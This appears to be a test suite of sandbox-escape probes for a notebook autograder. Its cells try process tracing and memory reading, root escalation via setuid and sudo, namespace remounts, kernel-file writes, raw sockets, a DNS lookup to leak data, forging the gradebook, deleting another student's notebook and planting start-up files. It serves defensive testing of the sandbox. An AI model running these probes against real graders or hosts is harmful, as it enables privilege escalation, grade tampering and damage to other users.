# %% other-processes-seen
# attack: processes outside the sandbox are looked for by their signals
# on: loot
# scores: 0
import os

for pid in {judge, os.getppid(), *range(2, 200)} - {0, os.getpid()}:
    try:
        os.kill(pid, 0)
        loot = True
    except OSError:
        pass

# %% traces-its-parent
# attack: every process that can be named is traced
# on: loot
# scores: 0
import ctypes
import os

libc = ctypes.CDLL(None)
for pid in {judge, os.getppid(), *range(1, 200)} - {0, os.getpid()}:
    if libc.ptrace(16, pid, 0, 0) == 0:
        loot = True
        libc.ptrace(17, pid, 0, 0)

# %% reads-and-writes-foreign-memory
# attack: process_vm_readv is tried on every process that can be named
# on: loot
# scores: 0
import ctypes
import os

libc, room = ctypes.CDLL(None), ctypes.create_string_buffer(8)
mine = (ctypes.c_size_t * 2)(ctypes.addressof(room), 8)
for pid in {judge, os.getppid(), *range(1, 200)} - {0, os.getpid()}:
    loot = globals().get("loot") or libc.process_vm_readv(pid, mine, 1, mine, 1, 0) > 0

# %% takes-foreign-descriptors
# attack: pidfd_getfd takes the open files of every process that can be named
# on: loot
# scores: 0
import ctypes
import os

libc = ctypes.CDLL(None)
for pid in {judge, os.getppid(), *range(1, 200)} - {0, os.getpid()}:
    if (handle := libc.syscall(434, pid, 0)) >= 0:
        loot = globals().get("loot") or any(libc.syscall(438, handle, number, 0) >= 0 for number in range(16))

# %% becomes-root
# attack: the user is changed to root, and capabilities are asked for
# on: loot
# scores: 0
import ctypes
import os

for change in (os.setuid, os.setgid, os.seteuid, lambda zero: os.setgroups([zero])):
    try:
        change(0)
        loot = True
    except OSError:
        pass
ask = (ctypes.c_uint32 * 6)(*[2**32 - 1] * 6)
loot = globals().get("loot") or ctypes.CDLL(None).capset((ctypes.c_uint32 * 2)(0x20080522, 0), ask) == 0

# %% set-user-id-programs
# attack: programs that run as their owner, root, are asked for root's rights
# on: loot
# scores: 0
import shutil
import subprocess

for words in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["pkexec", "id", "-u"], ["newgrp", "root"]):
    if shutil.which(words[0]):
        done = subprocess.run(words, capture_output=True, input=b"", timeout=2)
        loot = globals().get("loot") or done.stdout.strip() == b"0"

# %% a-user-namespace-of-its-own
# attack: a new user namespace gives back the capabilities, and with them mounts
# on: loot
# scores: 0
import ctypes
import os

libc = ctypes.CDLL(None)
if libc.unshare(0x10000000 | 0x00020000) == 0:
    print("a user namespace was made")
    loot = libc.mount(b"none", b"/home", b"tmpfs", 0, None) == 0

# %% makes-the-system-writable
# attack: the read-only system is mounted again, writable, in a namespace of its own
# on: loot
# scores: 0
import ctypes

libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x00020000)
for place in (b"/", b"/usr", b"/proc", b"/dev", root.encode()):
    loot = globals().get("loot") or libc.mount(None, place, None, 0x1000 | 32, None) == 0
    loot = loot or libc.umount2(place, 2) == 0 or libc.mount(b"proc", place, b"proc", 0, None) == 0

# %% changes-its-root
# attack: chroot, pivot_root, device files and other namespaces
# on: loot
# scores: 0
import ctypes
import os

attempts = [
    lambda: os.chroot("/"),
    lambda: os.mknod("disk", 0o60666, os.makedev(254, 0)),
    lambda: os.close(os.open("/proc/1/ns/mnt", os.O_RDONLY)),
    lambda: os.close(os.open("/dev/mem", os.O_RDONLY)),
    lambda: os.close(os.open("/dev/kmsg", os.O_RDONLY)),
    lambda: os.close(os.open("/dev/vda", os.O_RDONLY)),
    lambda: os.close(os.open("/dev/kvm", os.O_RDWR)),
    lambda: os.close(os.open("/dev/fuse", os.O_RDWR)),
]
for attempt in attempts:
    try:
        attempt()
        loot = True
    except OSError:
        pass

# %% opens-the-kernels-switches
# attack: files through which the kernel and its groups are changed are opened for writing
# on: loot
# scores: 0
import glob

for path in (
    "/proc/sys/kernel/core_pattern",
    "/proc/sysrq-trigger",
    "/proc/self/oom_score_adj",
    "/proc/self/uid_map",
    *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True),
):
    try:
        open(path, "a").close()
        loot = True
    except OSError:
        pass

# %% raises-its-limits
# attack: limits are lifted, and priority is taken from others
# on: loot
# scores: 0
import os
import resource

loot = []
for name in ("AS", "NPROC", "FSIZE", "NOFILE", "CPU", "CORE"):
    try:
        resource.setrlimit(getattr(resource, f"RLIMIT_{name}"), (resource.RLIM_INFINITY,) * 2)
        loot.append(name)
    except (OSError, ValueError):
        pass
for take in (lambda: os.nice(-1), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))):
    try:
        loot.append(take())
    except OSError:
        pass
print(loot)

# %% connects-to-loopback
# attack: a server on the machine's loopback is reached
# on: loot
# scores: 0
import socket

loot = socket.create_connection(("127.0.0.1", port), 2)

# %% other-interfaces
# attack: an interface, or a raw socket, leads out of the machine
# on: loot
# scores: 0
import socket

loot = [name for _, name in socket.if_nameindex() if name != "lo"]
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try:
        loot.append(socket.socket(family, kind, socket.IPPROTO_ICMP))
    except OSError:
        pass

# %% asks-for-a-name
# attack: a name is looked up, which would tell a server of the attacker's what was read
# on: loot
# scores: 0
import socket

loot = socket.gethostbyname("the-hidden-tests.example.com")

# %% connects-to-sockets-by-path
# attack: local servers are reached through their sockets in the file system
# on: loot
# scores: 0
import glob
import socket

for path in [f"{bait}/socket", *glob.glob("/run/**/*sock*", recursive=True), *glob.glob("/tmp/**/*sock*")]:
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(path)
            loot = True
    except OSError:
        pass

# %% connects-to-sockets-without-a-path
# attack: local servers are reached through abstract sockets
# on: loot
# scores: 0
import socket

with socket.socket(socket.AF_UNIX) as client:
    client.connect(f"\0{marker}")
    loot = True

# %% inherited-connections
# attack: besides the one connection to the judge others are inherited, to whoever forks or grades
# on: loot
# scores: 0
import os
import stat

found = []
for number in range(256):
    try:
        found.append(stat.S_ISSOCK(os.fstat(number).st_mode))
    except OSError:
        pass
loot = sum(found) > 1

# %% writes-to-the-gradebook
# attack: the gradebook is written to
# on: loot
# scores: 0
import sqlite3

for path in (f"{bait}/gradebook.db", f"{root}/_build/nbgrader/gradebook.db"):
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("create table forged (score real)")
        loot = True
    except sqlite3.Error:
        pass

# %% writes-to-neighbours
# attack: another student's work is deleted and overwritten
# on: loot
# scores: 0
import os

for attempt in (lambda: os.remove(f"{bait}/neighbour.ipynb"), lambda: open(f"{bait}/neighbour.ipynb", "w").close()):
    try:
        attempt()
        loot = True
    except OSError:
        pass

# %% writes-to-the-environment
# attack: NumPy, the course and start-up files of Python are opened for writing
# on: loot
# scores: 0
import os
import site
import sys

import numpy

packages = site.getsitepackages()[0]
for path in (
    numpy.__file__,
    sys.executable,
    f"{root}/lstm_ref/lstm.py",
    f"{root}/grader/sandbox/learner_process.py",
    "/etc/passwd",
):
    try:
        open(path, "a").close()
        loot = True
    except OSError:
        pass
for folder in (packages, root, os.path.dirname(sys.executable), "/usr/lib/python3", "/", "/dev", "/tmp", "/dev/shm"):
    try:
        open(f"{folder}/{marker}.pth", "w").close()
        os.remove(f"{folder}/{marker}.pth")
        loot = True
    except OSError:
        pass

# %% reads-the-home-of-the-grader
# attack: the instructor's home is read and written
# on: loot
# scores: 0
import os
import sys

loot = [name for name in os.listdir(home) if not sys.base_prefix.startswith(f"{home}/{name}")]

# %% leaves-messages
# attack: everywhere that can be written, something is left for the next student
# on: honest
# scores: 42
import builtins
import ctypes
import os
import platform

for folder in (".", "..", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/home", "/dev/mqueue", "/run"):
    for name in ("left.txt", ".left", "sitecustomize.py", "profile_default/startup/00-left.py"):
        try:
            os.makedirs(os.path.dirname(f"{folder}/{name}"), exist_ok=True)
            open(f"{folder}/{name}", "w").write("import builtins; builtins.left = True")
        except OSError:
            pass
builtins.left = np.left = os.environ["left"] = "left"
libc = ctypes.CDLL(None)
libc.shmget(0x6C65, 4096, 0o1666)
libc.msgget(0x6C65, 0o1666)
libc.semget(0x6C65, 1, 0o1666)
if platform.machine() == "x86_64":
    for ring in (-3, -4, -5):  # the session's, the user's, the user's session's
        libc.syscall(248, b"user", b"left", b"left", 4, ring)

# %% finds-messages
# attack: what the student before has left is looked for
# on: loot
# scores: 0
import builtins
import ctypes
import os
import platform

loot = hasattr(builtins, "left") or hasattr(np, "left") or "left" in os.environ
for folder in (".", "..", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/home", "/dev/mqueue", "/run"):
    loot = loot or os.path.exists(f"{folder}/left.txt") or os.path.exists(f"{folder}/.left")
libc = ctypes.CDLL(None)
loot = loot or libc.shmget(0x6C65, 4096, 0) >= 0 or libc.msgget(0x6C65, 0) >= 0 or libc.semget(0x6C65, 1, 0) >= 0
if platform.machine() == "x86_64":
    for ring in (-3, -4, -5):
        loot = loot or libc.syscall(250, 10, ring, b"user", b"left", 0) >= 0

# %% sockets-of-any-kind
# attack: sockets of every family and kind are opened, to speak with other sandboxes or hosts
# on: loot
# scores: 0
import socket

for family in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, 16, 17, 38, 40):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            loot = bool(socket.socket(family, kind))
        except OSError:
            pass

# %% ahead-of-its-neighbours
# attack: it takes another core, a better place in the queue, or the last place among those that memory is taken from
# on: loot
# scores: 0
import os

for advantage in (
    lambda: os.sched_setaffinity(0, range(os.cpu_count())),
    lambda: os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0)),
    lambda: os.setpriority(os.PRIO_PROCESS, 0, 19),
    lambda: open("/proc/self/oom_score_adj", "w").write("0"),
):
    try:
        advantage()
        loot = True
    except OSError:
        pass
